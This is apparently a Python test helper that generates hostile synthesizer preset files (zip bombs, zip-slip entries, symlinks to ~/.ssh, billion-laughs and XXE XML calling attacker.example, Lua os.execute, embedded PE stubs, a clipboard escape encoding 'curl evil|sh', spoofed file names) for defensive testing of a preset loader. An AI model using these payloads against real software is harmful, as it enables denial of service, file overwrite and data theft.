"""Builds a corpus of hostile preset files at test time (never commit its output).

    python tests/hostile.py OUT [--big]

Importable: every ``*_bytes`` function returns one hostile file's content, and :func:`build`
writes them all (plus symlinks, a FIFO and spoofed file names) into a folder. ``--big`` adds the
1 GiB-when-inflated zip bomb and the lying-trailer gzip used by benchmarks/security_bench.py;
they are built from repeated deflate blocks, so building them costs a CRC pass, not a 1 GiB
compression (and they are about 1 MB on disk).
"""

from __future__ import annotations

import base64
import io
import json
import os
import stat
import struct
import sys
import zipfile
import zlib
from pathlib import Path

MIB = 1 << 20

# A minimal PE: "MZ", e_lfanew at 0x3C pointing to "PE\0\0" (what X010 checks), padding.
PE = b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 0x80) + b"\x00" * (0x80 - 0x40) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
LUA_BYTECODE = b"\x1bLuaQ\x00\x01\x04\x08\x04\x08\x00" + b"\x00" * 20


# -- compression bombs --------------------------------------------------------------------------
def deflate_zeros(mib: int) -> tuple[bytes, int]:
    """(raw deflate stream, crc32) of ``mib`` MiB of zero bytes, without compressing them all.

    After a full flush the compressor starts afresh, so every further MiB of zeros compresses to
    the same bytes; the stream is the first blocks, one repeated block, and the final block.
    """
    chunk = bytes(MIB)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    second = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    third = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    assert second == third, "deflate blocks of zeros are expected to repeat after a full flush"
    stream = first + second * (mib - 1) + c.flush(zlib.Z_FINISH) if mib >= 2 else first + c.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(chunk, crc)
    return stream, crc


def zip_raw(members: list[tuple[str, bytes, int, int, int]], external_attr: int = 0) -> bytes:
    """A zip from (name, deflate stream, crc, declared uncompressed size, flag bits) written by hand,
    so declared sizes may lie and flags may claim encryption."""
    out = io.BytesIO()
    central = []
    for name, stream, crc, size, flags in members:
        offset = out.tell()
        raw = name.encode("utf-8")
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, 8, 0, 0, crc, len(stream), size, len(raw), 0))
        out.write(raw + stream)
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0x031E, 20, flags, 8, 0, 0, crc, len(stream),
                                   size, len(raw), 0, 0, 0, 0, external_attr, offset) + raw)
    cd_offset = out.tell()
    cd = b"".join(central)
    out.write(cd)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central), len(cd), cd_offset, 0))
    return out.getvalue()


def zip_bomb_bytes(mib: int = 1024, lie: bool = False) -> bytes:
    """A zip whose one member inflates to ``mib`` MiB of zeros (declares 1000 bytes when ``lie``)."""
    stream, crc = deflate_zeros(mib)
    return zip_raw([("Pad.vital", stream, crc, 1000 if lie else mib * MIB, 0)])


def gzip_lying_bytes(mib: int = 1024, claimed: int = 1234) -> bytes:
    """A gzip stream of ``mib`` MiB of zeros whose trailer claims ``claimed`` bytes."""
    stream, crc = deflate_zeros(mib)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + stream + struct.pack("<II", crc, claimed & 0xFFFFFFFF)


def nested_zip_bytes(depth: int) -> bytes:
    data = json.dumps({"preset_name": "core"}).encode()
    for i in range(depth):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr(f"layer{i}.zip" if i else "core.vital", data)
        data = buf.getvalue()
    return data


# -- archives ---------------------------------------------------------------------------------------
def _zip(entries: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in entries:
            zf.writestr(info, data)
    return buf.getvalue()


def zip_slip_bytes() -> bytes:
    return _zip([("Pad.vital", b"{}"), ("../../../../.bashrc", b"curl evil | sh\n"), ("C:/Windows/evil.dll", PE),
                 ("/etc/cron.d/x", b"* * * * * root id\n")])


def zip_symlink_bytes() -> bytes:
    link = zipfile.ZipInfo("presets")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    fifo = zipfile.ZipInfo("pipe")
    fifo.external_attr = (stat.S_IFIFO | 0o644) << 16
    return _zip([(link, b"/home/alice/.ssh"), (fifo, b""), ("presets/authorized_keys", b"ssh-rsa AAAA")])


def zip_encrypted_bytes() -> bytes:
    """One plain member and one flagged as encrypted (traditional PKWARE; the bytes are random)."""
    plain = zlib.compressobj(6, zlib.DEFLATED, -15)
    stream = plain.compress(b"{}") + plain.flush()
    secret = bytes(range(64))
    return zip_raw([("Plain.vital", stream, zlib.crc32(b"{}"), 2, 0), ("Secret.vital", secret, 0, 64, 0x1)])


def zip_with_exe_bytes() -> bytes:
    return _zip([("Pad.vital", json.dumps({"preset_name": "Pad"}).encode()), ("Readme.exe", PE)])


# -- XML ----------------------------------------------------------------------------------------------
def billion_laughs_bytes() -> bytes:
    ents = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">'
                                         for i in range(1, 10)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE patch [\n' + "\n".join(ents) + ']>\n<patch revision="1">'
            '<meta name="&lol9;"/></patch>\n').encode()


def xxe_bytes() -> bytes:
    return (b'<?xml version="1.0"?>\n<!DOCTYPE patch [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
            b'<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;]>\n<patch><meta name="&xxe;"/></patch>\n')


def surge_fxp_bytes(xml: bytes, wavetable: bytes = b"") -> bytes:
    """A Surge-shaped fxp: 60-byte big-endian header, 32-byte sub3 header, XML, then wavetable bytes."""
    sub3 = b"sub3" + struct.pack("<I", len(xml)) + struct.pack("<6I", len(wavetable), 0, 0, 0, 0, 0)
    chunk = sub3 + xml + wavetable
    name = b"Hostile".ljust(28, b"\x00")
    header = b"CcnK" + struct.pack(">I", 52 + len(chunk)) + b"FPCh" + struct.pack(">III", 1, 0x636A7333, 1)
    header += struct.pack(">I", 1) + name + struct.pack(">I", len(chunk))
    return header + chunk


def surge_lua_xml(source: bytes) -> bytes:
    encoded = base64.b64encode(source).decode()
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<patch revision="21"><meta name="Lua" category="Leads" '
            f'comment="" author="x"/><formulae><formula i="0" formula="{encoded}"/></formulae></patch>\n').encode()


def dx7_bank_bytes(name: bytes = b"\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07", bad_checksum: bool = True) -> bytes:
    voices = bytearray(4096)
    for v in range(32):
        voices[v * 128 + 118 : v * 128 + 128] = (name if v == 0 else b"INIT VOICE").ljust(10, b" ")[:10]
    checksum = (-sum(voices)) & 0x7F
    if bad_checksum:
        checksum ^= 0x55
    return b"\xf0\x43\x00\x09\x20\x00" + bytes(voices) + bytes([checksum, 0xF7])


def vital_with_payload_bytes() -> bytes:
    return json.dumps({
        "preset_name": "Innocent Pad", "author": "x", "comments": "", "preset_style": "Pad",
        "settings": {"wavetables": [{"groups": [{"components": [{"keyframes": [
            {"wave_data": base64.b64encode(PE + bytes(2048)).decode()}]}]}]}]},
    }).encode()


# -- the whole corpus -----------------------------------------------------------------------------------
def files(big: bool = False) -> dict[str, bytes]:
    out = {
        "zip_bomb_small.vitalbank": zip_bomb_bytes(40),
        "zip_bomb_lying.vitalbank": zip_bomb_bytes(40, lie=True),
        "gzip_lying.xiz": gzip_lying_bytes(40),
        "nested.vitalbank": nested_zip_bytes(20),
        "zip_slip.vitalbank": zip_slip_bytes(),
        "zip_symlink.vitalbank": zip_symlink_bytes(),
        "zip_encrypted.vitalbank": zip_encrypted_bytes(),
        "zip_exe.vitalbank": zip_with_exe_bytes(),
        "billion_laughs.fxp": surge_fxp_bytes(billion_laughs_bytes()),
        "xxe.fxp": surge_fxp_bytes(xxe_bytes()),
        "lua_os.fxp": surge_fxp_bytes(surge_lua_xml(b'function process(state)\n os.execute("id")\n return state\nend\n')),
        "lua_bytecode.fxp": surge_fxp_bytes(surge_lua_xml(LUA_BYTECODE)),
        "pe_in_wavetable.fxp": surge_fxp_bytes(surge_lua_xml(b"return 0"), wavetable=PE + bytes(4096)),
        "escape_name.syx": dx7_bank_bytes(),
        "payload.vital": vital_with_payload_bytes(),
        "disguised.vital": PE + bytes(256),
        "bomb.json": zip_bomb_bytes(40),
        "deep.json": b"[" * 5000 + b"]" * 5000,
        "dupes.json": b'{"metadata": {"name": "Pad", "name": "Evil"}}',
        "Bass\u202egpj.exe.json": b'{"metadata": {"name": "Bass"}}',
        "\x1b[31mred\x1b[0m.json": b'{"metadata": {"name": "Red"}}',
    }
    if big:
        out["zip_bomb_1g.vitalbank"] = zip_bomb_bytes(1024)
        out["gzip_lying_1g.xiz"] = gzip_lying_bytes(1024)
    return out


def build(folder: Path, big: bool = False, specials: bool = True) -> dict[str, Path]:
    """Write the hostile corpus into ``folder``; returns name -> path. Links and a FIFO when possible."""
    folder.mkdir(parents=True, exist_ok=True)
    folder = folder.resolve()
    paths: dict[str, Path] = {}
    for name, data in files(big).items():
        path = folder / name
        path.write_bytes(data)
        paths[name] = path
    if specials and hasattr(os, "symlink"):
        outside = folder.parent / "outside-secret.txt"
        outside.write_text("secret\n")
        for name, target in (("link_out.json", outside), ("link_in.json", folder / "dupes.json"),
                             ("link_loop_a.json", folder / "link_loop_b.json"),
                             ("link_loop_b.json", folder / "link_loop_a.json")):
            (folder / name).symlink_to(target)
            paths[name] = folder / name
    if specials and hasattr(os, "mkfifo"):
        os.mkfifo(folder / "pipe.json")
        paths["pipe.json"] = folder / "pipe.json"
    return paths


if __name__ == "__main__":
    if len(sys.argv) < 2:
        sys.stderr.write("usage: python tests/hostile.py OUT [--big]\n")
        raise SystemExit(2)
    built = build(Path(sys.argv[1]), big="--big" in sys.argv[2:])
    sys.stdout.write(f"wrote {len(built)} hostile files to {sys.argv[1]}\n")
